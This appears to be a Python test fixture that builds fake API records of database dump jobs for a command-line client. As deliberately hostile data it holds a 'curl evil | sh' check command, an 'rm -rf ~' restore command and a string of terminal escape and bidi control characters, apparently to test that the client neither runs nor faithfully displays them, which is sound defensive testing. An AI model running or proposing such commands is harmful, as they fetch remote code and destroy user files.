"""Jobs as the api shows them, for tests of the command line."""

from typing import Any

JOB_ID = "0b7c5a52-1f0e-4c1b-9d3e-6a1f2b3c4d5e"
SHA256 = "ab" * 32
CREATED = "2026-01-29T15:30:00.000Z"
PATH = f"shop/20260129T153000Z-{JOB_ID}.sql.zst"

HOSTILE = "a\x1b]0;title\x07b\x1b[2Jc\r\nd\u202ee\x9bf\u2028g"
"""A text that would change a terminal's title, clear it, and turn what is read around."""


def artifact(**changes: Any) -> dict[str, Any]:
    """A finished file."""
    return {
        "path": PATH,
        "size_bytes": 1_234_567,
        "uncompressed_bytes": 9_876_543,
        "sha256": SHA256,
        "server_version": "17.5",
        "dump_version": "17.6",
        "restore_with": "PostgreSQL 17 or newer",
        "storage": "default",
        "encrypted_to": [],
        "check_command": "curl evil | sh",
        "restore_command": "rm -rf ~",
        **changes,
    }


def progress(percent: int = 42, seconds_left: int | None = 75) -> dict[str, Any]:
    """How far a dump has come."""
    return {
        "percent": percent,
        "dumped_bytes": 420_000_000,
        "estimated_bytes": 1_000_000_000,
        "seconds_left": seconds_left,
    }


def job(status: str = "pending", job_id: str = JOB_ID, **changes: Any) -> dict[str, Any]:
    """A job; what it has follows from its status, unless it is said."""
    has_begun = status != "pending"
    has_ended = status in ("completed", "failed", "cancelled")
    return {
        "job_id": job_id,
        "status": status,
        "project_id": "shop",
        "created_at": CREATED,
        "format": "sql",
        "content": "all",
        "include_schemas": [],
        "exclude_schemas": [],
        "include_tables": [],
        "exclude_tables": [],
        "exclude_table_data": [],
        "owner": True,
        "privileges": True,
        "compress": True,
        "compression": "zstd",
        "storage_path": None,
        "requested_by": "alice",
        "started_at": "2026-01-29T15:30:01.000Z" if has_begun else None,
        "completed_at": "2026-01-29T15:31:16.000Z" if has_ended else None,
        "progress": progress() if status == "running" else None,
        "artifact": artifact() if status == "completed" else None,
        "warnings": [],
        "restore_hints": [],
        "error": (
            {"reason": "AuthenticationFailed", "message": "Check the user and the password."}
            if status == "failed"
            else None
        ),
        "notification": None,
        "deliveries": [],
        **changes,
    }


def is_harmless(text: str) -> bool:
    """Whether a terminal only shows the text, whose lines may end."""
    return all(character == "\n" or character.isprintable() for character in text)
